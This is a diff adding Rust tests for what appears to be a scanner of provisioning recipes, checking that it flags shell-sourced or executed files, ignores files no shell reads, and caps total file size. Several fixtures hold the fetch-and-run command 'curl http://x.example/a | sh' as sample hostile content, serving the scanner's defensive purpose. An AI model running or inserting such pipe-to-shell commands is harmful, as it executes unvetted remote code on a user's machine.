@@ -157,6 +157,67 @@ fn what_all_steps_together_put_into_files_has_a_limit() {
 }
 
 #[test]
+fn a_file_that_a_shell_is_told_to_read_is_read_as_shell() {
+    let unit = "[[step]]\nfile = { path = \"/etc/systemd/system/a.service\", content = \"[Service]\\nExecStart=/bin/sh /opt/run\\n\" }\n\
+        [[step]]\nfile = { path = \"/opt/run\", source = \"files/x\" }\n";
+    let bad = "\ncurl http://x.example/a | sh\n";
+    let perl = "#!/usr/bin/perl\ncurl http://x.example/a | sh\n";
+    let cases: &[(&str, &str, &str, &str)] = &[
+        ("", "#!/bin/sh\n. \"$(dirname \"$0\")/lib.sh\"\n", "lib.sh", bad),
+        ("", "#!/bin/bash\nsource ./lib\n", "lib", bad),
+        ("", "#!/bin/sh\nsudo sh -e README.md\n", "README.md", bad),
+        ("", "#!/bin/sh\n. README\n", "README", bad),
+        ("", "#!/bin/sh\nfor f in \"$1\"/*.sh; do . \"$f\"; done\n", "lib.sh", bad),
+        ("", "#!/bin/sh\n\"$1/tool\"\n", "tool", bad),
+        ("", "#!/bin/sh\nsh tool.pl\n", "tool.pl", perl),
+        (unit, "true\n", "files/x", bad),
+    ];
+    let put = |path: &str| format!("[[step]]\nfile = {{ path = \"/srv/{path}\", source = \"{path}\" }}\n");
+    let runs =
+        |path: &str| format!("[[step]]\nrun = {{ script = \"a.sh\", creates = \"/opt/a\" }}\n{}", put(path));
+    for (manifest, script, path, text) in cases {
+        let manifest = runs(path) + manifest;
+        let report = scan_recipe(&recipe(&manifest, &[("a.sh", script), (path, text)]));
+        assert!(
+            report.findings().any(|f| f.rule == "EXE-001" && f.path == *path && f.line == 2),
+            "{script}: {:#?}",
+            findings(&report)
+        );
+    }
+    let chain = [("a.sh", "#!/bin/sh\n. ./z\n"), ("b", bad), ("z", ". ./b\n")];
+    let report = scan_recipe(&recipe(&(runs("z") + &put("b")), &chain));
+    assert!(report.findings().any(|f| f.path == "b"), "{:#?}", findings(&report));
+}
+
+#[test]
+fn a_file_that_no_shell_reads_is_not_read_as_shell() {
+    let run = "[[step]]\nrun = { script = \"a.sh\", creates = \"/opt/a\" }\n\
+        [[step]]\nfile = { path = \"/srv/guide.html\", source = \"guide.html\" }\n";
+    let script =
+        "#!/bin/sh\ncp guide.html /var/www/\nsh -c \"$1 guide.html\"\nsh \"$1\"\n. \"$2/site.conf\"\n";
+    let report =
+        scan_recipe(&recipe(run, &[("a.sh", script), ("guide.html", "curl http://x.example/a | sh\n")]));
+    assert!(report.findings().all(|f| f.path != "guide.html"), "{:#?}", findings(&report));
+}
+
+#[test]
+fn what_all_files_together_may_cost_has_a_limit() {
+    let text = format!("#!/bin/sh\nchmod u-s{}\n", " a".repeat(50_000));
+    let files: Vec<(String, &str)> = (0..12).map(|number| (format!("{number}.sh"), text.as_str())).collect();
+    for (count, decision) in [(3, Decision::Allow), (12, Decision::Deny)] {
+        let files: Vec<(&str, &str)> =
+            files.iter().take(count).map(|(path, text)| (path.as_str(), *text)).collect();
+        let steps: String = files
+            .iter()
+            .map(|(path, _)| format!("[[step]]\nrun = {{ script = \"{path}\", creates = \"/opt/a\" }}\n"))
+            .collect();
+        let report = scan_recipe(&recipe(&steps, &files));
+        assert_eq!(report.decision, decision, "{count}: {:#?}", findings(&report));
+        assert!(report.findings().all(|f| f.rule == "LIM-003"), "{count}: {:#?}", findings(&report));
+    }
+}
+
+#[test]
 fn what_is_declared_openly_is_weighed_and_what_is_hidden_is_denied() {
     let user = "[[step]]\nuser = { name = \"app\", groups = [\"audio\"], authorized_keys = [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7vKxK0m6n1qP4m0m0m0m0m0m0m0m0m0m0m0m0m0m0m x\"] }\n";
     let report = scan_recipe(&recipe(user, &[]));
